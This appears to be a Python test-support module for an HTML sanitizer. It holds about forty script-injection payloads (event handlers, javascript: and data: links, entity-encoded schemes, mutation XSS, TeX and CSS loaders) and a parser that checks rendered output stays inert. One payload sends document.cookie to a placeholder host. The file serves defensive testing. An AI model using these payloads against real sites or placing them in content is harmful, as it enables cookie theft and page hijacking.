"""A corpus of script-injection payloads, as a model's answer, a prompt or a stored value could
carry them. Each one, if it ran, would set ``window.__pwned`` (or the document title), or make a
request to a host in TEST-NET-3 (203.0.113.0/24, never routed), so a browser test can see whether
anything executed or left the page; unit tests check the rendered HTML holds nothing active.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

EXFIL_HOST = "203.0.113.7"

PAYLOADS: dict[str, str] = {
    "img onerror": '<img src=x onerror="window.__pwned=1;document.title=\'pwned\'">',
    "script": "<script>window.__pwned=2</script>",
    "svg onload": '<svg onload="window.__pwned=3"><circle r="1"/></svg>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.__pwned=4</script>"></iframe>',
    "markdown javascript link": "[click me](javascript:window.__pwned=5)",
    "mixed-case javascript href": '<a href="JaVaScRiPt:window.__pwned=6">mixed case</a>',
    "entity-encoded markdown link": "[entity](&#106;avascript:window.__pwned=7)",
    "entity-encoded href": '<a href="&#106;&#x61;vascript&colon;window.__pwned=8">entity</a>',
    "data: html link": "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD05PC9zY3JpcHQ+)",
    "data: html href": '<a href="data:text/html,<script>parent.__pwned=9</script>">data</a>',
    "vbscript href": '<a href="vbscript:msgbox(1)">vb</a>',
    "style expression": '<div style="width:expression(window.__pwned=10);background:url(javascript:window.__pwned=10)">s</div>',
    "style url exfil": f'<p style="background-image:url(http://{EXFIL_HOST}/style.png)">styled</p>',
    "handler in link title": '[title](https://example.com "x\\" onmouseover=\\"window.__pwned=11")',
    "mixed-case tag and handler": "<IMG SRC=x OnErRoR=window.__pwned=12>",
    "nested broken tags": "<<img src=x onerror=window.__pwned=13>img><scr<script>ipt>window.__pwned=13</script>",
    "fetch out": f"<img src=x onerror=\"fetch('http://{EXFIL_HOST}/steal?c='+document.cookie)\">",
    "markdown image exfil": f"![pixel](http://{EXFIL_HOST}/pixel.png?q=secret)",
    "details ontoggle": "<details open ontoggle=window.__pwned=14><summary>x</summary></details>",
    "mutation xss": "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=15>",
    "inline code": "`<img src=x onerror=window.__pwned=16>` in code",
    "fenced code": "```html\n<img src=x onerror=window.__pwned=17>\n```",
    "form action": '<form action="javascript:window.__pwned=18"><button>go</button></form>',
    "autofocus input": "<input autofocus onfocus=window.__pwned=19>",
    "stylesheet link": f'<link rel="stylesheet" href="http://{EXFIL_HOST}/x.css">',
    "style import": f'<style>@import "http://{EXFIL_HOST}/x.css"; body{{color:red}}</style>',
    "object data": '<object data="javascript:window.__pwned=20"></object>',
    "base href": f'<base href="http://{EXFIL_HOST}/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=21">',
    "tag inside display maths": "$$ <img src=x onerror=window.__pwned=22> $$",
    "tag inside inline maths": "$<img src=x onerror=window.__pwned=23>$",
    "tex href": "$\\href{javascript:window.__pwned=24}{click}$",
    "tex style exfil": f"$\\style{{background-image:url(http://{EXFIL_HOST}/tex.png)}}{{x}}$",
    "tex require": "\\(\\require{http://" + EXFIL_HOST + "/ext.js}\\)",
    "autolink javascript": "<javascript:window.__pwned=25>",
    "reference link": "[ref][r]\n\n[r]: javascript:window.__pwned=26",
    "html entity smuggle": "&lt;img src=x onerror=window.__pwned=27&gt;",
    "unicode escape in scheme": '<a href="java\tscript:window.__pwned=28">tab</a>',
}

SAFE_TAGS = frozenset({"a", "abbr", "b", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4",
                       "h5", "h6", "hr", "i", "kbd", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup",
                       "table", "tbody", "td", "th", "thead", "tr", "ul"})
SAFE_ATTRIBUTES = frozenset({"class", "style", "title", "href", "rel", "start", "align"})


class _Audit(HTMLParser):
    def __init__(self, extra_attributes: frozenset[str] = frozenset()) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.extra = extra_attributes

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").lower()
            if name not in SAFE_ATTRIBUTES | self.extra:
                self.problems.append(f"<{tag} {name}=…>")
            if name == "href":
                scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", value))
                if scheme and scheme.group(1) not in ("http", "https", "mailto"):
                    self.problems.append(f"href {value[:40]}")
            if name == "style" and re.search(r"url\(|expression|image|@import|\\", value):
                self.problems.append(f"style {value[:60]}")


def assert_frame_inert(fragment: str) -> None:
    """:func:`assert_inert` for a pandas DataFrame's HTML: its own fixed ``<style scoped>`` block
    (pandas' table CSS, nothing of the data) and ``border`` attribute are allowed."""
    style = re.search(r"<style scoped>(.*?)</style>", fragment, re.S)
    if style:
        assert not re.search(r"url\(|@import|expression|<|\\", style.group(1)), style.group(1)
        fragment = fragment.replace(style.group(0), "")
    _audit(fragment, frozenset({"border"}))


def _audit(fragment: str, extra: frozenset[str]) -> None:
    audit = _Audit(extra)
    audit.feed(fragment)
    audit.close()
    assert not audit.problems, f"active markup {audit.problems} survived in: {fragment[:2000]}"


def assert_inert(fragment: str) -> None:
    """Nothing active in ``fragment`` (sanitized HTML): only allow-listed tags and attributes,
    links only to http(s)/mailto, no style that loads anything. (Payloads shown as escaped text
    are fine: a browser shows them, it does not run them.)"""
    _audit(fragment, frozenset())


def all_payloads() -> str:
    """Every payload in one text, one paragraph each."""
    return "\n\n".join(f"{name}: {payload}" for name, payload in PAYLOADS.items())
